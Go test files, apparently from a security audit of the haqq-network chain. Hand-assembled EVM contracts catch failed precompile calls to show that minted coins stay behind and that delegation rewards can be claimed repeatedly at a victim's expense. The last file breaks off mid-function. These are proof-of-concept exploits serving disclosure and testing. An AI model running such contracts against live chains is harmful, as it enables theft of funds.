		return s.app.BankKeeper.GetBalance(s.ctx, sdk.AccAddress(a.Bytes()), s.bondDenom).Amount.BigInt()
	}
	return s.app.EvmKeeper.GetState(s.ctx, inner, common.Hash{}),
		bal(inner), bal(beneficiary), bal(catcher),
		supplyAfter.Sub(supplyBefore).BigInt()
}

// Control: the inner frame calls a plain address instead of a stateful precompile. The revert is clean.
func (s *PrecompileTestSuite) TestZZHuntC05RevertedFrameWithoutPrecompileIsClean() {
	s.zzNextBlock()
	plain, _ := testutiltx.NewAddrKey()
	value := big.NewInt(1e15)

	slot0, innerBal, benefBal, catcherBal, supplyDelta := s.zzRunCaughtRevert(plain, []byte{0xde, 0xad, 0xbe, 0xef}, value)

	s.Require().Equal(common.Hash{}, slot0, "storage written in the reverted frame")
	s.Require().Zero(innerBal.Sign(), "reverted frame kept %s", innerBal)
	s.Require().Zero(benefBal.Sign(), "beneficiary paid from the reverted frame kept %s", benefBal)
	s.Require().Equal(value.String(), catcherBal.String(), "the catcher keeps the value it could not forward")
	s.Require().Zero(supplyDelta.Sign(), "supply changed by %s", supplyDelta)
}

// The inner frame writes storage, pays a beneficiary, makes a read-only QUERY on the bank precompile
// (bank.totalSupply(), no Cosmos-side effect whatsoever) and reverts. Its parent catches the failure.
// Nothing of what the inner frame did may survive.
func (s *PrecompileTestSuite) TestZZHuntC05RevertedFrameAfterPrecompileQueryLeavesStorageAndBalances() {
	s.zzNextBlock()
	payload := crypto.Keccak256([]byte(bankprecompile.TotalSupplyMethod + "()"))[:4]
	value := big.NewInt(1e15)

	slot0, innerBal, benefBal, catcherBal, supplyDelta := s.zzRunCaughtRevert(
		common.HexToAddress(bankprecompile.PrecompileAddress), payload, value,
	)

	s.T().Logf("slot0=%s inner=%s beneficiary=%s catcher=%s supplyDelta=%s", slot0.Hex(), innerBal, benefBal, catcherBal, supplyDelta)

	s.Assert().Equal(common.Hash{}, slot0, "storage slot 0 of the contract whose frame reverted must still be empty")
	s.Assert().Zero(innerBal.Sign(), "the contract whose frame reverted must not keep the value it was sent; has %s", innerBal)
	s.Assert().Zero(benefBal.Sign(), "a payment made inside the reverted frame must be undone; beneficiary has %s", benefBal)
	s.Assert().Equal(value.String(), catcherBal.String(), "the catcher must still hold the value it could not forward")
	s.Assert().Zero(supplyDelta.Sign(), "total supply must not change; changed by %s", supplyDelta)
}
