package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzFlushRuntime is the runtime code of a minimal "try/catch" contract (hand assembled, no compiler needed).
//
//	calldata empty                     : STOP (plain receive of funds)
//	CALLER != ADDRESS  ("outer" frame) : CALL(self, calldata)                  // the "try"; result ignored (the "catch")
//	                                     SSTORE(0, RETURNDATASIZE)             // 1 <=> the view call inside the try succeeded
//	                                     CALL(ORIGIN, value = 1 wei)           // an ordinary value transfer afterwards
//	                                     STOP
//	CALLER == ADDRESS  ("inner" frame) : calldata = target(32) | payee(32) | amount(32) | payload
//	                                     CALL(payee, value = amount)           // ordinary value transfer
//	                                     ok := STATICCALL(target, payload)     // read-only call of a precompile VIEW method
//	                                     REVERT(0, ok)                         // ALWAYS revert the frame
var zzFlushRuntime = []byte{
	0x36, 0x60, 0x05, 0x57, 0x00, // 00: CALLDATASIZE PUSH1 05 JUMPI STOP
	0x5b,                               // 05: JUMPDEST
	0x36, 0x60, 0x00, 0x60, 0x00, 0x37, // 06: CALLDATACOPY(0, 0, CALLDATASIZE)
	0x33, 0x30, 0x14, 0x60, 0x33, 0x57, // 0c: CALLER ADDRESS EQ PUSH1 <inner> JUMPI
	// outer (0x12)
	0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x30, 0x5a, 0xf1, // 12: CALL(gas, self, 0, 0, cds, 0, 0)
	0x50,                   // 1e: POP
	0x3d, 0x60, 0x00, 0x55, // 1f: SSTORE(0, RETURNDATASIZE)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x01, 0x32, 0x5a, 0xf1, // 23: CALL(gas, origin, 1, 0,0,0,0)
	0x50, // 30: POP
	0x00, // 31: STOP
	0x00, // 32: (padding)
	// inner (0x33)
	0x5b,                                                                                           // 33: JUMPDEST
	0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x40, 0x51, 0x60, 0x20, 0x51, 0x5a, 0xf1, // 34: CALL(gas, mem[0x20], mem[0x40], 0,0,0,0)
	0x50,                                                                                     // 44: POP
	0x60, 0x00, 0x60, 0x00, 0x60, 0x60, 0x36, 0x03, 0x60, 0x60, 0x60, 0x00, 0x51, 0x5a, 0xfa, // 45: STATICCALL(gas, mem[0], 0x60, cds-0x60, 0, 0)
	0x60, 0x00, 0xfd, // 54: REVERT(0, ok)
}

func (s *PrecompileTestSuite) zzFlushSendEthTx(to *common.Address, value *big.Int, input []byte) {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		Amount:   value,
		GasLimit: 3_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the top level call must succeed")
}

// A contract sends 0.3 ISLM to a third party and then reads bank.totalSupply() through a STATICCALL, all inside a
// call frame that REVERTs (Solidity: `try this.inner() {} catch {}`); afterwards it makes an ordinary 1 wei transfer.
// No Cosmos message is executed at all. EVM semantics: the 0.3 ISLM transfer is undone together with its frame,
// so the third party receives nothing, the contract pays 1 wei, and the total supply does not move.
func (s *PrecompileTestSuite) TestZZHuntViewCallInRevertedFrameMints() {
	// the suite context created by SetupTest predates the first Commit: move to a fresh block first
	// (this is what s.NextBlock() does in the integration tests)
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)

	bal := func(a common.Address) math.Int {
		return s.app.BankKeeper.GetBalance(s.ctx, a.Bytes(), utils.BaseDenom).Amount
	}
	supply := func() math.Int { return s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom).Amount }

	// deploy the contract (PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN ++ runtime), give it 1 ISLM
	initCode := append([]byte{0x60, byte(len(zzFlushRuntime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, zzFlushRuntime...)
	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.zzFlushSendEthTx(nil, nil, initCode)
	catcher := crypto.CreateAddress(s.address, nonce)
	s.Require().Equal(zzFlushRuntime, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountOrEmpty(s.ctx, catcher).CodeHash)))
	s.zzFlushSendEthTx(&catcher, big.NewInt(1e18), nil)

	payee, _ := testutiltx.NewAddrKey()
	amount := big.NewInt(3e17)
	bankPrecompile := common.HexToAddress("0x0000000000000000000000000000000000000804")

	input := common.LeftPadBytes(bankPrecompile.Bytes(), 32)
	input = append(input, common.LeftPadBytes(payee.Bytes(), 32)...)
	input = append(input, common.LeftPadBytes(amount.Bytes(), 32)...)
	input = append(input, crypto.Keccak256([]byte("totalSupply()"))[:4]...)

	supplyBefore, catcherBefore, payeeBefore := supply(), bal(catcher), bal(payee)

	s.zzFlushSendEthTx(&catcher, nil, input)

	supplyAfter, catcherAfter, payeeAfter := supply(), bal(catcher), bal(payee)
	flag := s.app.EvmKeeper.GetState(s.ctx, catcher, common.Hash{})
	s.Require().Equal(uint64(1), flag.Big().Uint64(), "inner frame: the view call succeeded and the frame then reverted")

	s.T().Logf("supply   before %s after %s (diff %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))
	s.T().Logf("contract before %s after %s", catcherBefore, catcherAfter)
	s.T().Logf("payee    before %s after %s", payeeBefore, payeeAfter)

	s.Assert().Equal(payeeBefore.String(), payeeAfter.String(), "the transfer to the payee was made in a reverted frame: the payee must not receive anything")
	s.Assert().Equal(catcherBefore.SubRaw(1).String(), catcherAfter.String(), "the contract paid exactly 1 wei")
	s.Assert().Equal(supplyBefore.String(), supplyAfter.String(), "an Ethereum transaction must not change the total supply")
}
