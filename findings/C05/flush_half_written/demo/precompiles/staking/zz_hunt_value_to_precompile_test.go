package staking_test

import (
	"math/big"
	"time"

	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzSwallowingForwarder is the init code of a 24-byte contract (no solc in the sandbox):
//
//	fallback() external payable {
//	    address(0x800).call{value: msg.value, gas: 200000}(msg.data); // result ignored: the failure is "caught"
//	}
//
// runtime: CALLDATASIZE PUSH1 0 PUSH1 0 CALLDATACOPY
//
//	PUSH1 0 PUSH1 0 CALLDATASIZE PUSH1 0 CALLVALUE PUSH2 0x0800 PUSH3 200000 CALL POP STOP
var zzSwallowingForwarder = common.FromHex(
	"0x6018" + "80" + "600b" + "6000" + "39" + "6000" + "f3" + // init: return the 0x18 bytes that follow
		"36" + "6000" + "6000" + "37" +
		"6000" + "6000" + "36" + "6000" + "34" + "610800" + "62030d40" + "f1" +
		"50" + "00",
)

// The property (C05): a call frame that fails leaves no trace; its state changes - balances included - are undone.
//
// A contract calls the staking precompile with some value attached and catches the failure. The precompile call
// frame fails (the precompile address is a blocked bank address, the flush of the StateDB that every precompile
// call starts with cannot credit it), the EVM restores the caller's balance from the journal - but the coins that
// StateDB.Commit/SetBalance had already minted for the precompile address stay in the x/evm module account: the
// total supply has grown by the attached value although the failed frame moved nothing.
func (s *PrecompileTestSuite) TestZZHuntFailedPrecompileFrameLeavesMintedCoins() {
	var err error

	fwd, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzSwallowingForwarder})
	s.Require().NoError(err)
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
	fwdAcc := s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, fwd)
	s.Require().NotNil(fwdAcc)
	s.Require().Len(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(fwdAcc.CodeHash)), 0x18)

	value := big.NewInt(1_000_000_000_000_000_000) // 1 ISLM
	evmModule := authtypes.NewModuleAddress(evmtypes.ModuleName)
	precompileAddr := common.HexToAddress(staking.PrecompileAddress)

	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom)
	evmModuleBefore := s.app.BankKeeper.GetBalance(s.ctx, evmModule, utils.BaseDenom)
	s.Require().True(evmModuleBefore.IsZero(), "the x/evm module account only holds coins in transit")
	s.Require().Nil(s.app.AccountKeeper.GetAccount(s.ctx, precompileAddr.Bytes()))

	// any method will do (here a query): the call fails before the method is dispatched
	_, ethRes, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		PrivKey:      s.privKey,
		ContractAddr: fwd,
		ContractABI:  s.precompile.ABI,
		MethodName:   staking.DelegationMethod,
		Args:         []interface{}{s.address, s.validators[0].OperatorAddress},
		Amount:       value,
		GasLimit:     500_000,
	})
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the outer transaction succeeds: the forwarder swallowed the inner failure")

	// the inner frame failed: the value never left the forwarder, nothing reached the precompile address
	s.Require().Equal(value.String(), s.app.BankKeeper.GetBalance(s.ctx, fwd.Bytes(), utils.BaseDenom).Amount.String())
	s.Require().True(s.app.BankKeeper.GetBalance(s.ctx, precompileAddr.Bytes(), utils.BaseDenom).IsZero())

	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom)
	evmModuleAfter := s.app.BankKeeper.GetBalance(s.ctx, evmModule, utils.BaseDenom)
	s.T().Logf("total supply before %s after %s (diff %s); x/evm module account before %s after %s",
		supplyBefore.Amount, supplyAfter.Amount, supplyAfter.Amount.Sub(supplyBefore.Amount), evmModuleBefore.Amount, evmModuleAfter.Amount)

	s.Assert().Equal(supplyBefore.Amount.String(), supplyAfter.Amount.String(),
		"a failed call frame must leave no trace: the total supply changed")
	s.Assert().True(evmModuleAfter.IsZero(), "coins minted for the failed frame are stranded in the x/evm module account: %s", evmModuleAfter)
	s.Assert().Nil(s.app.AccountKeeper.GetAccount(s.ctx, precompileAddr.Bytes()),
		"an auth account was created for the precompile address by the failed frame")
}
