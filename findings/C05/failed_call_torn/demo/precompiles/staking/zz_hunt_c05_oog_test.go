package staking_test

import (
	"fmt"
	"math/big"
	"strings"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	distrkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/precompiles/distribution"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
)

// zzGasCatcherRuntime is a parent frame that calls with an explicit gas allowance and never bubbles
// the failure of the callee up ("a parent that catches the failure"):
//
//	calldata = callee(32) ++ gas(32) ++ times(32) ++ payload
//	repeat `times`:  ok = callee.call{gas: gas}(payload)
//	return ok   (of the last call)
func zzGasCatcherRuntime() []byte {
	// stack while looping: [counter]
	head := zzCat(
		// calldatacopy(0, 96, calldatasize-96)
		zzPush1(96), zzOp(vm.CALLDATASIZE, vm.SUB), zzPush1(96), zzPush1(0), zzOp(vm.CALLDATACOPY),
		// counter = calldataload(64)
		zzPush1(64), zzOp(vm.CALLDATALOAD),
	)
	loopStart := byte(len(head))
	body := zzCat(
		zzOp(vm.JUMPDEST),
		// call(calldataload(32), calldataload(0), 0, 0, calldatasize-96, 0, 0)
		zzPush1(0), zzPush1(0),
		zzPush1(96), zzOp(vm.CALLDATASIZE, vm.SUB),
		zzPush1(0),
		zzPush1(0),
		zzPush1(0), zzOp(vm.CALLDATALOAD),
		zzPush1(32), zzOp(vm.CALLDATALOAD),
		zzOp(vm.CALL),
		// mem[0x400] = ok   (the payload is far shorter than 0x400 bytes)
		zzOp(vm.PUSH2), []byte{0x04, 0x00}, zzOp(vm.MSTORE),
		// counter--; if counter != 0 goto loopStart
		zzPush1(1), zzOp(vm.SWAP1, vm.SUB, vm.DUP1),
		zzPush1(loopStart), zzOp(vm.JUMPI),
		// return mem[0x400:0x420]
		zzPush1(32), zzOp(vm.PUSH2), []byte{0x04, 0x00}, zzOp(vm.RETURN),
	)
	return append(head, body...)
}

// zzSetupRewards makes validator[0] owe 1e18 of rewards to the tx signer (s.address) and 1e18 to an
// unrelated delegator ("victim"), the way BeginBlock does it with the collected fees.
func (s *PrecompileTestSuite) zzSetupRewards() (val sdk.ValAddress, victim sdk.AccAddress) {
	val = s.validators[0].GetOperator()
	victim, _ = testutiltx.NewAccAddressAndKey()
	s.Require().NoError(haqqtestutil.FundAccountWithBaseDenom(s.ctx, s.app.BankKeeper, victim, 2e18))
	_, err := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).Delegate(s.ctx, &stakingtypes.MsgDelegate{
		DelegatorAddress: victim.String(), ValidatorAddress: val.String(), Amount: sdk.NewCoin(s.bondDenom, math.NewInt(1e18)),
	})
	s.Require().NoError(err)
	s.zzNextBlock()

	rewards := sdk.NewCoins(sdk.NewCoin(s.bondDenom, math.NewInt(2e18)))
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, rewards))
	v, found := s.app.StakingKeeper.GetValidator(s.ctx, val)
	s.Require().True(found)
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, v, sdk.NewDecCoinsFromCoins(rewards...))
	s.zzNextBlock()
	return val, victim
}

// zzDistrState is what distribution.withdrawDelegatorRewards may touch.
func (s *PrecompileTestSuite) zzDistrState(del common.Address, val sdk.ValAddress) string {
	start := "none"
	if s.app.DistrKeeper.HasDelegatorStartingInfo(s.ctx, val, del.Bytes()) {
		si := s.app.DistrKeeper.GetDelegatorStartingInfo(s.ctx, val, del.Bytes())
		start = fmt.Sprintf("{period %d, height %d}", si.PreviousPeriod, si.Height)
	}
	return fmt.Sprintf("distrModuleBalance=%s outstanding=%s valPeriod=%d delegatorStart=%s supply=%s",
		s.app.BankKeeper.GetBalance(s.ctx, s.app.AccountKeeper.GetModuleAddress(distrtypes.ModuleName), s.bondDenom).Amount,
		s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, val).AmountOf(s.bondDenom).TruncateInt(),
		s.app.DistrKeeper.GetValidatorCurrentRewards(s.ctx, val).Period,
		start,
		s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount,
	)
}

// zzAftermath: do the module invariants still hold, and can other users / the chain still work with the validator?
// Everything runs on throw-away branches of the state.
func (s *PrecompileTestSuite) zzAftermath(victim sdk.AccAddress, val sdk.ValAddress) string {
	try := func(name string, f func(ctx sdk.Context) string) (out string) {
		defer func() {
			if r := recover(); r != nil {
				out = fmt.Sprintf("%s: PANIC %q", name, fmt.Sprint(r))
			}
		}()
		ctx, _ := s.ctx.CacheContext()
		if res := f(ctx); res != "" {
			return name + ": " + res
		}
		return ""
	}
	var out []string
	for _, r := range []string{
		try("bank invariant", func(ctx sdk.Context) string {
			if _, broken := bankkeeper.TotalSupply(s.app.BankKeeper)(ctx); broken {
				return "BROKEN (sum of balances != supply)"
			}
			return ""
		}),
		try("staking invariants", func(ctx sdk.Context) string {
			if msg, broken := sdkstakingkeeper.AllInvariants(s.app.StakingKeeper.Keeper)(ctx); broken {
				return "BROKEN " + msg
			}
			return ""
		}),
		try("distribution invariants", func(ctx sdk.Context) string {
			if msg, broken := distrkeeper.AllInvariants(s.app.DistrKeeper)(ctx); broken {
				return "BROKEN " + strings.Join(strings.Fields(msg), " ")
			}
			return ""
		}),
		try("victim MsgWithdrawDelegatorReward", func(ctx sdk.Context) string {
			got, err := s.app.DistrKeeper.WithdrawDelegationRewards(ctx, victim, val)
			if err != nil {
				return "ERROR " + err.Error()
			}
			if got.AmountOf(s.bondDenom).String() != "1000000000000000000" {
				return "got " + got.String()
			}
			return ""
		}),
		try("victim MsgUndelegate", func(ctx sdk.Context) string {
			_, err := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).Undelegate(ctx, &stakingtypes.MsgUndelegate{
				DelegatorAddress: victim.String(), ValidatorAddress: val.String(), Amount: sdk.NewCoin(s.bondDenom, math.NewInt(1e18)),
			})
			if err != nil {
				return "ERROR " + err.Error()
			}
			return ""
		}),
	} {
		if r != "" {
			out = append(out, r)
		}
	}
	return strings.Join(out, "; ")
}

// zzWithdrawViaCatcher sends  EOA -> catcher -> (times x) distribution.withdrawDelegatorRewards{gas}(EOA, val)
// and returns whether the last inner call succeeded and what the EOA gained (fee added back).
func (s *PrecompileTestSuite) zzWithdrawViaCatcher(catcher common.Address, val sdk.ValAddress, gas uint64, times int64) (innerOK bool, gain math.Int) {
	distr, err := distribution.NewPrecompile(s.app.DistrKeeper, s.app.StakingKeeper, s.app.AuthzKeeper)
	s.Require().NoError(err)
	withdraw, err := distr.Pack(distribution.WithdrawDelegatorRewardsMethod, s.address, val.String())
	s.Require().NoError(err)
	word := func(x uint64) []byte { return common.LeftPadBytes(new(big.Int).SetUint64(x).Bytes(), 32) }

	balBefore := s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom).Amount
	res := s.zzCall(catcher, nil, zzCat(zzWord(distr.Address()), word(gas), word(uint64(times)), withdraw))
	s.Require().False(res.Failed(), "outer tx must succeed: %s", res.VmError)
	fee := new(big.Int).Mul(s.app.FeeMarketKeeper.GetBaseFee(s.ctx), new(big.Int).SetUint64(res.GasUsed))
	balAfter := s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom).Amount
	return new(big.Int).SetBytes(res.Ret).Sign() != 0, balAfter.Sub(balBefore).Add(math.NewIntFromBigInt(fee))
}

func (s *PrecompileTestSuite) zzFreshChainWithRewards() (catcher common.Address, val sdk.ValAddress, victim sdk.AccAddress) {
	s.SetupTest()
	s.zzNextBlock()
	catcher = s.zzDeploy(zzGasCatcherRuntime())
	s.zzNextBlock()
	val, victim = s.zzSetupRewards()
	s.Require().Empty(s.zzAftermath(victim, val), "the chain must be healthy before the experiment")
	return
}

// For every gas allowance given to the inner call   catcher -> distribution.withdrawDelegatorRewards(signer, validator):
// either the call succeeds, or it fails (out of gas) and then NOTHING of it may remain: the catcher's own
// transaction succeeds and is committed, so whatever the failed frame left behind is permanent.
func (s *PrecompileTestSuite) TestZZHuntC05PrecompileOutOfGasLeavesNoTrace() {
	type class struct {
		from, to uint64
		desc     string
	}
	var classes []class
	for gas := uint64(10_000); gas <= 100_000; gas += 500 {
		catcher, val, victim := s.zzFreshChainWithRewards()
		before := s.zzDistrState(s.address, val)

		innerOK, gain := s.zzWithdrawViaCatcher(catcher, val, gas, 1)
		if innerOK {
			s.T().Logf("gas=%d: inner call succeeded (signer gained %s); scan ends", gas, gain)
			break
		}
		after := s.zzDistrState(s.address, val)
		aftermath := s.zzAftermath(victim, val)
		if after == before && gain.IsZero() && aftermath == "" {
			continue
		}
		desc := fmt.Sprintf("signer gained %s\n      before: %s\n      after:  %s\n      aftermath: %s", gain, before, after, aftermath)
		if n := len(classes); n > 0 && classes[n-1].desc == desc {
			classes[n-1].to = gas
		} else {
			classes = append(classes, class{gas, gas, desc})
		}
	}
	for _, c := range classes {
		s.T().Logf("inner call FAILED (returned 0) with gas %d..%d, but: %s", c.from, c.to, c.desc)
	}
	s.Require().Empty(classes, "a precompile call that ran out of gas left part of its Cosmos-side effects behind")
}

// The most profitable placement of the fault: the rewards have been paid, but neither the validator's outstanding
// rewards nor the delegator's starting period have been updated. The inner call "failed", so it can be repeated.
func (s *PrecompileTestSuite) TestZZHuntC05PrecompileOutOfGasRepeatedRewardClaim() {
	// find the gas allowance for this chain state
	var gasPaidNotBooked uint64
	for gas := uint64(30_000); gas <= 100_000 && gasPaidNotBooked == 0; gas += 500 {
		catcher, val, _ := s.zzFreshChainWithRewards()
		outstandingBefore := s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, val)
		innerOK, gain := s.zzWithdrawViaCatcher(catcher, val, gas, 1)
		if innerOK {
			break
		}
		if gain.IsPositive() && s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, val).IsEqual(outstandingBefore) {
			gasPaidNotBooked = gas
		}
	}
	if gasPaidNotBooked == 0 {
		s.T().Log("no gas allowance found at which a failed inner call pays the rewards: nothing to show")
		return
	}

	catcher, val, victim := s.zzFreshChainWithRewards()
	entitled := math.NewInt(1e18)
	innerOK, gain := s.zzWithdrawViaCatcher(catcher, val, gasPaidNotBooked, 2)
	s.T().Logf("gas=%d, 2 failed inner calls in one tx: last inner ok=%v, signer gained %s (entitled to %s in total); %s",
		gasPaidNotBooked, innerOK, gain, entitled, s.zzDistrState(s.address, val))
	s.Require().False(innerOK, "every inner call failed")

	_, err := s.app.DistrKeeper.WithdrawDelegationRewards(s.ctx, victim, val)
	s.T().Logf("afterwards the other delegator's own MsgWithdrawDelegatorReward: err=%v", err)

	s.Assert().True(gain.IsZero(), "calls that failed must not pay anything; the signer gained %s (its whole entitlement is %s)", gain, entitled)
	s.Assert().NoError(err, "the other delegator must still be able to withdraw its 1e18 of rewards")
}
