package staking_test

// Throw-away demonstration for C05: Cosmos-side effects of a precompile call made inside
// a REVERTED inner EVM call frame persist when the enclosing transaction succeeds.
//
// Run:
//   go test ./precompiles/staking/ -run TestPrecompileTestSuite -testify.m TestZZC05 -ginkgo.skip='.*' -count=1 -v

import (
	"encoding/hex"
	"fmt"
	"math/big"
	"time"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// ---------------------------------------------------------------------------------------
// hand assembled byte code
// ---------------------------------------------------------------------------------------

// c05Init wraps a runtime into init code: PUSH1 len; DUP1; PUSH1 0x0b; PUSH1 0; CODECOPY; PUSH1 0; RETURN
func c05Init(runtime []byte) []byte {
	if len(runtime) >= 256 {
		panic("runtime too long")
	}
	prefix := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(prefix, runtime...)
}

// c05Inner: CALLDATACOPY(0,0,CALLDATASIZE); ok = CALL(GAS, target, 0, 0, CALLDATASIZE, 0, 0);
// MSTORE(0, ok); then REVERT(0,32) (final = 0xfd) or RETURN(0,32) (final = 0xf3).
func c05Inner(target uint16, final byte) []byte {
	return []byte{
		0x36,       // CALLDATASIZE
		0x60, 0x00, // PUSH1 0 (offset)
		0x60, 0x00, // PUSH1 0 (destOffset)
		0x37,       // CALLDATACOPY
		0x60, 0x00, // PUSH1 0 retSize
		0x60, 0x00, // PUSH1 0 retOffset
		0x36,       // CALLDATASIZE argsSize
		0x60, 0x00, // PUSH1 0 argsOffset
		0x60, 0x00, // PUSH1 0 value
		0x61, byte(target >> 8), byte(target), // PUSH2 target
		0x5a,       // GAS
		0xf1,       // CALL
		0x60, 0x00, // PUSH1 0
		0x52,       // MSTORE(0, ok)
		0x60, 0x20, // PUSH1 32
		0x60, 0x00, // PUSH1 0
		final, // REVERT / RETURN (0, 32)
	}
}

// c05Outer: CALLDATACOPY(0,0,CALLDATASIZE); ok = CALL(GAS, inner, 0, 0, CALLDATASIZE, 0, 0);
// MSTORE(0, ok); RETURNDATACOPY(32, 0, RETURNDATASIZE); RETURN(0, 32+RETURNDATASIZE)
// i.e. it ignores the failure of the inner frame and returns successfully:
// word0 = success flag of the call to INNER, word1.. = return/revert data of INNER.
func c05Outer(inner common.Address) []byte {
	code := []byte{
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x37,
		0x60, 0x00,
		0x60, 0x00,
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x73, // PUSH20 inner
	}
	code = append(code, inner.Bytes()...)
	code = append(code,
		0x5a,       // GAS
		0xf1,       // CALL
		0x60, 0x00, // PUSH1 0
		0x52,       // MSTORE(0, ok)
		0x3d,       // RETURNDATASIZE (size)
		0x60, 0x00, // PUSH1 0 (offset)
		0x60, 0x20, // PUSH1 32 (destOffset)
		0x3e,       // RETURNDATACOPY
		0x3d,       // RETURNDATASIZE
		0x60, 0x20, // PUSH1 32
		0x01,       // ADD
		0x60, 0x00, // PUSH1 0
		0xf3, // RETURN(0, 32+rds)
	)
	return code
}

// ---------------------------------------------------------------------------------------
// helpers (no gomega)
// ---------------------------------------------------------------------------------------

func (s *PrecompileTestSuite) c05NextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

func (s *PrecompileTestSuite) c05Deploy(name string, runtime []byte) common.Address {
	initCode := c05Init(runtime)
	addr, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err, "deploy %s", name)
	s.c05NextBlock()
	acct := s.app.EvmKeeper.GetAccount(s.ctx, addr)
	s.Require().NotNil(acct, "%s account", name)
	deployed := s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash))
	s.Require().Equal(runtime, deployed, "%s deployed code differs from runtime", name)
	fmt.Printf("C05 %-10s addr=%s\n    init=%s\n    runtime=%s\n", name, addr.Hex(), hex.EncodeToString(initCode), hex.EncodeToString(runtime))
	return addr
}

// c05Value is the msg.value attached by c05Send (nil = 0). A non-zero value makes the origin's
// stateObject journal-dirty (SubBalance in the top-level Transfer) before the precompile runs.
var c05Value *big.Int

// c05Send delivers an eth tx (to, input) signed by the suite key WITHOUT asserting on the vm result.
func (s *PrecompileTestSuite) c05Send(to common.Address, input []byte) (abci.ResponseDeliverTx, *evmtypes.MsgEthereumTxResponse, *big.Int) {
	gasPrice := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
